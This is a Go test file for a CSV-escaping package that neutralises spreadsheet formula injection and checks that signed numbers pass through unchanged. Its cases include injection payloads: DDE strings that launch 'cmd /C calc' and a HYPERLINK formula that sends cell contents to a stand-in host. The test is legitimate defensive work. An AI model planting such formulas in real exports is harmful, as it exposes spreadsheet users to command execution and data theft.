package csvsafe

import (
	"bytes"
	"encoding/csv"
	"slices"
	"testing"
)

func TestCell(t *testing.T) {
	cases := []struct{ in, want string }{
		// The tester's payloads, and the other characters a spreadsheet starts a
		// formula with.
		{`=HYPERLINK("http://example.org/?"&A1,"Click")`, `'=HYPERLINK("http://example.org/?"&A1,"Click")`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"+CMD|x!A0", "'+CMD|x!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"-", "'-"},
		{"=", "'="},
		// Numbers stay numbers, signed or not.
		{"-12.5", "-12.5"}, {"+3", "+3"}, {"-0.04", "-0.04"}, {"-1e3", "-1e3"}, {"-.5", "-.5"}, {"-1,095.17", "-1,095.17"}, {"+12,345", "+12,345"},
		{"1235", "1235"}, {"*", "*"}, {"", ""},
		// Only the first character matters.
		{"St Mary's = best", "St Mary's = best"}, {"RXX", "RXX"}, {"a-b", "a-b"},
		// Not plain decimals: a spreadsheet would read them as formulas.
		{"-0x1p3", "'-0x1p3"}, {"-Inf", "'-Inf"}, {"-1-1", "'-1-1"}, {"-1,09", "'-1,09"}, {"-407.31 to -150.00", "'-407.31 to -150.00"},
	}
	for _, c := range cases {
		if got := Cell(c.in); got != c.want {
			t.Errorf("Cell(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestWriter(t *testing.T) {
	var buf bytes.Buffer
	w := NewWriter(&buf)
	record := []string{"=1+1", "-12.5", "Leeds, \"North\""}
	if err := w.Write(record); err != nil {
		t.Fatal(err)
	}
	if err := w.WriteAll([][]string{{"@A1", "5", "+44 113"}}); err != nil {
		t.Fatal(err)
	}
	if record[0] != "=1+1" {
		t.Errorf("Write changed its argument: %q", record)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"'=1+1", "-12.5", "Leeds, \"North\""}, {"'@A1", "5", "'+44 113"}}
	if !slices.EqualFunc(rows, want, slices.Equal) {
		t.Errorf("read back %q, want %q", rows, want)
	}
}

// What iaptpub reads back from its own downloads is exactly what it wrote.
func TestUnescapeGivesBackTheText(t *testing.T) {
	for _, s := range []string{
		"", "=1+1", "'=1+1", "''=1+1", "+CMD|x!A0", "-", "-5", "'-5", "'", "''",
		"'quoted'", "O'Brien", "@SUM(A1)", "\t=1", "All referrals", "+44 20",
	} {
		if got := Unescape(Cell(s)); got != s {
			t.Errorf("Unescape(Cell(%q)) = %q", s, got)
		}
	}
	// A cell that Cell could not have written is left as it is.
	if got := Unescape("'abc"); got != "'abc" {
		t.Errorf("Unescape(%q) = %q", "'abc", got)
	}
}
